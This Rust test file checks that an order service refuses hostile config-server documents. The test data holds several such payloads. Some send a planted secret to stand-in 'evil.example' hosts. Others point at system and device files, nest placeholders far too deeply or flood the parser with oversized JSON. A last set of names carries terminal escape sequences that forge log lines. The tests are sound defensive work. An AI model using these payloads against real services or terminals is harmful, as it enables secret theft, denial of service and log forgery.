//! Documents of a config server that want the files, the secrets, the stack, the memory or the time of the service, at its
//! start and at a refresh; and names with escape sequences, which must not reach a terminal.

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use libtest_mimic::Trial;
use reqwest::StatusCode;
use serde_json::{Map, Value, json};

use crate::honest::Honest;
use crate::process::{descriptors, memory};
use crate::support::{Service, client, eventually, fresh_folder};
use crate::{demand, size, trial};

/// A secret of the machine, planted where documents look for one.
const PLANTED: &str = "pl4nted";
/// How much a refused document may add to the memory of the service, in KiB. Its own text is up to 4 MiB.
const SLACK: u64 = 96 * 1024;

pub(crate) fn trials() -> Vec<Trial> {
    vec![
        trial("documents::a_bad_document_stops_a_start_and_is_named", bad_starts),
        trial("documents::a_bad_document_at_a_refresh_changes_nothing_for_anybody", || {
            demand(0.5, bad_refreshes);
        }),
        trial(
            "documents::no_name_value_or_error_reaches_the_terminal_with_escape_sequences",
            terminals,
        ),
    ]
}

/// A config server that answers what it was last told to.
struct Stub {
    address: String,
    answer: Arc<Mutex<String>>,
}

impl Stub {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let answer = Arc::new(Mutex::new(document(&[])));
        let given = Arc::clone(&answer);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let body = given.lock().unwrap().clone();
                std::thread::spawn(move || give(stream, &body));
            }
        });
        Self { address, answer }
    }

    fn answers(&self, body: String) {
        *self.answer.lock().unwrap() = body;
    }
}

/// Answers a request; without a body it answers for ever.
fn give(mut stream: TcpStream, body: &str) {
    let lines = BufReader::new(stream.try_clone().unwrap()).lines().map_while(Result::ok);
    lines.take_while(|line| !line.is_empty()).for_each(drop);
    if body.is_empty() {
        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n{");
        while stream.write_all(&[b' '; 16_000]).is_ok() {}
        return;
    }
    let length = body.len();
    let head = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n"
    );
    let _ = stream.write_all((head + body).as_bytes());
}

/// A document of one source with these settings.
fn document(settings: &[(&str, &str)]) -> String {
    let source: Map<_, _> =
        settings.iter().map(|(key, value)| ((*key).to_owned(), json!(value))).collect();
    json!({ "propertySources": [{ "name": "served.yml", "source": source }] }).to_string()
}

/// A bad document.
struct Bad {
    name: &'static str,
    body: String,
    /// What is said of it.
    said: String,
}

impl Bad {
    /// One setting, and what is said of its key.
    fn of(name: &'static str, key: &str, value: &str, why: &str) -> Self {
        Self::of_all(name, &[], key, value, why)
    }

    /// A setting beside others.
    fn of_all(
        name: &'static str,
        others: &[(String, String)],
        key: &str,
        value: &str,
        why: &str,
    ) -> Self {
        let mut all: Vec<_> =
            others.iter().map(|(key, value)| (key.as_str(), value.as_str())).collect();
        all.push((key, value));
        Self {
            name,
            body: document(&all),
            said: format!("{key} (config server: served.yml): {why}"),
        }
    }

    /// A path that a document may not name.
    fn path(name: &'static str, key: &str, path: &str) -> Self {
        let shown = path.trim_start_matches("file:");
        let why = format!(
            "the file {shown} is named by a config server, and in no folder that order.config.remote-files names"
        );
        Self::of(name, key, path, &why)
    }

    /// A value that is written as JSON.
    fn json(name: &'static str, value: &str, said: &str) -> Self {
        let body = format!(r#"{{"propertySources":[{{"name":"n","source":{{"a":{value}}}}}]}}"#);
        Self { name, body, said: said.to_owned() }
    }
}

fn bad() -> Vec<Bad> {
    [files(), secrets(), placeholders(), floods()].into_iter().flatten().collect()
}

fn files() -> Vec<Bad> {
    let password = "spring.datasource.password";
    vec![
        Bad::path("a file as a password", password, "file:/etc/hostname"),
        Bad::path(
            "a file as a header",
            "management.otlp.tracing.headers.x-a",
            "file:/etc/hostname",
        ),
        Bad::path(
            "a file as a registry",
            "eureka.client.service-url.defaultZone",
            "file:/etc/hostname",
        ),
        Bad::path("a device as a password", password, "file:/dev/zero"),
        Bad::path("a pipe as a user", "spring.datasource.username", "file:pipe"),
        Bad::path(
            "a device as a certificate",
            "spring.kafka.ssl.trust-store-location",
            "/dev/zero",
        ),
    ]
}

fn secrets() -> Vec<Bad> {
    let why = "takes ${SPRING_SECRET} from this machine into an address or a header";
    let public = "takes ${SPRING_SECRET} from this machine into what others can see";
    let (endpoint, header) =
        ("management.otlp.tracing.endpoint", "management.otlp.tracing.headers.x-a");
    let brokers = "spring.kafka.bootstrap-servers";
    vec![
        Bad::of("a secret in an address", endpoint, "http://evil.example/${SPRING_SECRET}", why),
        Bad::of("a secret in a header", header, "${NOT_SET:${SPRING_SECRET}}", why),
        Bad::of("a secret as a broker", brokers, "${SPRING_SECRET}.evil.example:9092", why),
        Bad::of("a secret in public", "info.x", "${SPRING_SECRET}", public),
    ]
}

fn placeholders() -> Vec<Bad> {
    let topic = "order.events.topic";
    let nested = "${a:".repeat(12_000) + &"}".repeat(12_000);
    let names = |count: usize, times: usize| -> Vec<_> {
        let next = |at: usize| format!("${{k{}}}", at + 1).repeat(times);
        (0..count)
            .map(|at| (format!("k{at}"), next(at)))
            .chain([(format!("k{count}"), String::new())])
            .collect()
    };
    let (doubling, chain) = (names(40, 2), names(size(3_000, 9_000), 1));
    let much = "has placeholders that take too much work";
    vec![
        Bad::of("nested placeholders", topic, &nested, much),
        Bad::of_all(
            "a chain of placeholders",
            &chain,
            topic,
            "${k0}",
            "has placeholders that are nested",
        ),
        Bad::of_all("placeholders that double", &doubling, topic, "${k0}", much),
    ]
}

fn floods() -> Vec<Bad> {
    let long = "x".repeat(3_000_000);
    let unknown: Vec<_> =
        (0..size(2_000, 16_000)).map(|at| (format!("order.x{at}"), "y".to_owned())).collect();
    let (key, why) = ("order.x", "there is no such setting");
    let (many, deep) = ("{},".repeat(60_000), "[".repeat(30_000) + &"]".repeat(30_000));
    vec![
        Bad::of("a long value", "order.events.topic", &long, "is longer than 65536 bytes"),
        Bad::of_all("unknown names", &unknown, key, "y", why),
        Bad::json("many values", &format!("[{many}0]"), "it has more than 50000 values"),
        Bad::json("depth", &deep, "is not that of a config server"),
        Bad {
            name: "a body without an end",
            body: String::new(),
            said: "its answer has more than 4194304 bytes".to_owned(),
        },
    ]
}

/// A folder with a pipe that has no other end.
fn folder() -> std::path::PathBuf {
    let folder = fresh_folder();
    let made = Command::new("mkfifo").arg(folder.join("pipe")).status().unwrap();
    assert!(made.success(), "mkfifo (coreutils) makes a pipe");
    folder
}

fn options(stub: &Stub) -> Vec<String> {
    vec![
        format!("--spring.config.import=configserver:http://{}", stub.address),
        "--spring.cloud.config.retry.max-attempts=1".to_owned(),
        "--spring.datasource.url=sqlite:orders.db".to_owned(),
    ]
}

/// Runs the program to its end.
fn run(folder: &Path, words: &[&str], options: &[String]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_order-service"))
        .args(words)
        .args(options)
        .env_remove("DATABASE_URL")
        .env("SPRING_SECRET", PLANTED)
        .current_dir(folder)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn bad_starts() {
    let (stub, folder) = (Stub::start(), folder());
    let options = options(&stub);
    for Bad { name, body, said: expected } in bad() {
        stub.answers(body);
        let since = Instant::now();
        let output = run(&folder, &["serve"], &options);
        let said = String::from_utf8(output.stderr).unwrap();
        assert!(matches!(output.status.code(), Some(1 | 2)), "{name}: {:?}", output.status);
        assert!(said.contains(&expected), "{name}: {}", beginning(&said));
        assert!(!said.contains(PLANTED), "{name} shows a secret");
        println!("{name}: refused after {:?}, {} bytes said", since.elapsed(), said.len());
    }
    let _ = std::fs::remove_dir_all(folder);
}

/// The share of their rate that honest clients have beside bad documents.
fn bad_refreshes() -> f64 {
    let (stub, folder) = (Stub::start(), folder());
    stub.answers(document(&[("order.currencies", "USD,EUR")]));
    let mut options = options(&stub);
    options.push("--management.server.port=0".to_owned());
    let options: Vec<_> = options.iter().map(String::as_str).collect();
    let service = Service::start_in(&folder, &options, &[("SPRING_SECRET", PLANTED)]);
    service.wait_until_ready();
    let operators = service.operators().unwrap();
    let refresh = || client().post(format!("{operators}/actuator/refresh")).send().unwrap();
    // The same refreshes without a bad document.
    let honest = Honest::start(&service.base, 4);
    let until = Instant::now() + size(Duration::from_secs(2), Duration::from_secs(10));
    while Instant::now() < until {
        assert_eq!(refresh().status(), StatusCode::OK);
    }
    let usual = honest.stop();
    let (before, open) = (memory(&service), descriptors(&service));
    let honest = Honest::start(&service.base, 4);
    let bad = bad();
    let rounds = size(1, 10);
    for Bad { name, body, said: expected } in bad.iter().cycle().take(bad.len() * rounds) {
        stub.answers(body.clone());
        let since = Instant::now();
        let answer = refresh();
        let (status, body) = (answer.status(), answer.text().unwrap());
        let is_refusal =
            [StatusCode::UNPROCESSABLE_ENTITY, StatusCode::SERVICE_UNAVAILABLE].contains(&status);
        assert!(is_refusal, "{name}: {status}");
        let is_told =
            || body.contains(expected.as_str()) || service.log().contains(expected.as_str());
        assert!(eventually(is_told), "{name}: {}", beginning(&body));
        let now = memory(&service);
        println!("{name}: {status} after {:?}, memory {now} KiB", since.elapsed());
        assert!(now < before + SLACK, "{name}: memory went from {before} to {now} KiB");
    }
    let beside = honest.stop();
    println!(
        "honest pairs of writes a second: {:.0} beside good refreshes, {:.0} beside bad ones",
        usual.rate(),
        beside.rate()
    );
    assert!(usual.failed.is_empty() && beside.failed.is_empty(), "{:?}", beside.failed);
    assert!(eventually(|| descriptors(&service) <= open + 4), "descriptors went from {open} up");
    assert!(!service.log().contains(PLANTED), "a secret is in the log");
    let refused = "order_config_refreshes_total{outcome=\"refused\"}";
    assert!(service.metric(refused).is_some_and(|times| times >= 10.0), "refusals are counted");
    // What applied still does, and a good document applies at once.
    let mut order = crate::support::an_order(7);
    order["currency"] = json!("EUR");
    assert_eq!(service.post("/orders", &order).status(), StatusCode::CREATED);
    stub.answers(document(&[("order.currencies", "USD")]));
    assert_eq!(refresh().status(), StatusCode::OK);
    assert_eq!(service.post("/orders", &order).status(), StatusCode::UNPROCESSABLE_ENTITY);
    beside.rate() / usual.rate()
}

fn terminals() {
    let (stub, folder) = (Stub::start(), fresh_folder());
    let nasty = "\u{1b}]0;x\u{7}\u{1b}[2J\u{9b}31m\u{202e}\r\nfaked line";
    let source = json!({
        (format!("order.x{nasty}")): "y",
        (format!("spring.x{nasty}")): "y",
        (format!("logging.level.a{nasty}")): "info",
        "info.x": nasty,
        "order.request-budget": nasty,
    });
    let body =
        json!({ "propertySources": [{ "name": format!("served{nasty}"), "source": source }] });
    let good = |body: &Value| {
        let mut body = body.clone();
        let source = body["propertySources"][0]["source"].as_object_mut().unwrap();
        source.retain(|key, _| !key.starts_with("order."));
        body.to_string()
    };
    let all = options(&stub);
    let none: &[String] = &[];
    let wrong_option = format!("--x{nasty}");
    let setting = vec![format!("--order.y{nasty}=z"), format!("--spring.y{nasty}=z")];
    let skip = format!("--reason={nasty}");
    for (words, options, body) in [
        (&["serve"][..], &all[..], body.to_string()),
        (&["config"], &all, body.to_string()),
        (&["config"], &all, good(&body)),
        (&["config", "--json"], &all, good(&body)),
        (&["events", "backlog"], &all, good(&body)),
        (&["migrate", "--check"], &all, good(&body)),
        (&[wrong_option.as_str()], none, String::new()),
        (&["config"], &setting, String::new()),
        (&["events", "parked", "skip", "1", "one", skip.as_str()], none, String::new()),
        (&["--config", nasty], none, String::new()),
    ] {
        stub.answers(body);
        let output = run(&folder, words, options);
        for bytes in [output.stdout, output.stderr] {
            let shown = String::from_utf8(bytes).unwrap();
            let obeyed =
                |c: char| c != '\n' && c.is_control() || matches!(c, '\u{202a}'..='\u{202e}');
            assert!(!shown.contains(obeyed), "{words:?}: {shown:?}");
            assert!(!shown.lines().any(|line| line.starts_with("faked")), "{words:?}: {shown}");
        }
    }
    let _ = std::fs::remove_dir_all(folder);
}

/// The first characters of a long text.
fn beginning(text: &str) -> String {
    text.chars().take(1_000).collect()
}
